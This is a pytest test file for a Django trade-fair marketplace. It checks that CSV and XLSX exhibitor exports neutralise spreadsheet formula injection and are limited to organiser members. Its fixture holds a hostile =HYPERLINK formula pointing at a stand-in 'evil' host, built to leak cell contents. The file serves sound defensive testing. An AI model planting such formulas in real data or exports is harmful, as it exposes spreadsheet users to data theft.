"""The organiser's exports: CSV and XLSX, formula injection neutralised, members only."""

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.fairs.services import booth_assign
from tests.factories import UserFactory
from tests.factories_fairs import BoothFactory, FairFactory, organiser_member
from tests.fairs.helpers import applied

pytestmark = pytest.mark.django_db


def _fair():
    organiser, user = organiser_member(role="staff")
    _o, manager = organiser_member(organiser)
    fair = FairFactory(organiser=organiser)
    application = applied(fair=fair, name='=HYPERLINK("http://evil/?"&A1,"Xem")')
    booth_assign(application=application, booth=BoothFactory(zone__fair=fair, code="B-12"),
                 actor=manager)  # fmt: skip
    return fair, user


def test_exhibitors_csv_and_assignments_xlsx_neutralise_formulas(client):
    fair, user = _fair()
    client.force_login(user)
    response = client.get(f"/hoi-cho/{fair.slug}/xuat/exhibitors.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Gian hàng", "Đơn vị tham gia", "Mã số thuế"]
    assert rows[1][0] == "B-12"
    assert rows[1][1] == '\'=HYPERLINK("http://evil/?"&A1,"Xem")'
    assert "★" in rows[1][4]
    response = client.get(f"/hoi-cho/{fair.slug}/xuat/assignments.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][0] == "B-12"
    assert values[1][2] == '\'=HYPERLINK("http://evil/?"&A1,"Xem")'
    assert values[1][3] == 2_000_000


def test_exports_are_for_the_organisers_members_only(client):
    fair, _user = _fair()
    assert client.get(f"/hoi-cho/{fair.slug}/xuat/exhibitors.csv").status_code == 403
    client.force_login(UserFactory())
    assert client.get(f"/hoi-cho/{fair.slug}/xuat/exhibitors.csv").status_code == 403
    assert client.get(f"/hoi-cho/{fair.slug}/xuat/other.csv").status_code == 404
